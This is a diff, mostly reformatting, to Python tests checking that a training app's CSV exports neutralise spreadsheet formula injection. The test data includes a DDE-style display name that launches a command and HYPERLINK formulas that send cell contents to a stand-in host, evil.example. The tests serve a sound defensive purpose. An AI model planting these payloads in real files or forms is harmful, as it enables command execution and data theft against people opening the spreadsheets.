@@ -1,4 +1,5 @@
 """F10: every CSV the app hands out goes through one writer, so no cell can start a spreadsheet formula."""
+
 import csv
 import io
 import shutil
@@ -37,9 +38,19 @@ def test_a_self_registered_trainees_formula_email_is_neutralised_in_the_cohort_c
     cohort = create_cohort("Spring", "sample", date(2027, 3, 1), date(2027, 6, 1), trainer)
     db.session.commit()
     attacker = app.test_client()
-    registered = post(attacker, "/account/register", {
-        "email": HOSTILE_EMAIL, "display_name": "@SUM(1+1)*cmd|' /C calc'!A0", "legal_name": "Mallory",
-        "password": PASSWORD, "confirm": PASSWORD, "privacy": "y"}, page="/account/register")
+    registered = post(
+        attacker,
+        "/account/register",
+        {
+            "email": HOSTILE_EMAIL,
+            "display_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "legal_name": "Mallory",
+            "password": PASSWORD,
+            "confirm": PASSWORD,
+            "privacy": "y",
+        },
+        page="/account/register",
+    )
     assert registered.status_code == 302
     attacker = signed_in(app, HOSTILE_EMAIL)
     assert post(attacker, "/join", {"code": cohort.join_code}, page=f"/join/{cohort.join_code}").status_code == 302
@@ -56,9 +67,11 @@ def test_a_hyperlink_row_in_a_bulk_verification_upload_comes_back_neutralised(ap
     visitor = app.test_client()
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
     upload = "id\n" + '"' + hostile.replace('"', '""') + '"\n' + "+1-2\n@SUM(A1)\n-2+3\n"
-    response = visitor.post("/verify/bulk", data={"csrf_token": csrf_token(visitor, "/verify/bulk"),
-                                                  "file": (io.BytesIO(upload.encode()), "ids.csv")},
-                            content_type="multipart/form-data")
+    response = visitor.post(
+        "/verify/bulk",
+        data={"csrf_token": csrf_token(visitor, "/verify/bulk"), "file": (io.BytesIO(upload.encode()), "ids.csv")},
+        content_type="multipart/form-data",
+    )
     assert response.status_code == 200 and response.mimetype == "text/csv"
     body = response.get_data(as_text=True)
     rows = list(csv.DictReader(io.StringIO(body)))
@@ -76,14 +89,24 @@ def test_a_formula_live_session_title_is_neutralised_in_the_transcript_csv(app, 
     post(client, "/join", {"code": cohort.join_code}, page=f"/join/{cohort.join_code}")
     coach = signed_in(app, "coach@example.org")
     page = f"/staff/cohorts/{cohort.id}"
-    recorded = post(coach, f"{page}/sessions", {"title": "=HYPERLINK(\"http://evil.example\")", "held_on": "2027-03-08",
-                                                "minutes": "60", "domain": "ethics", "attendees": [str(trainee.id)]}, page=page)
+    recorded = post(
+        coach,
+        f"{page}/sessions",
+        {
+            "title": '=HYPERLINK("http://evil.example")',
+            "held_on": "2027-03-08",
+            "minutes": "60",
+            "domain": "ethics",
+            "attendees": [str(trainee.id)],
+        },
+        page=page,
+    )
     assert recorded.status_code == 302
     for url in (f"/staff/trainees/{trainee.id}/transcript.csv", "/dashboard/transcript.csv"):
         with (coach if url.startswith("/staff") else client).get(url) as response:
             assert response.status_code == 200
             body = response.get_data(as_text=True)
-        assert "'=HYPERLINK(\"http://evil.example\")" in cells(body)
+        assert '\'=HYPERLINK("http://evil.example")' in cells(body)
         assert_no_formula(body)
 
 
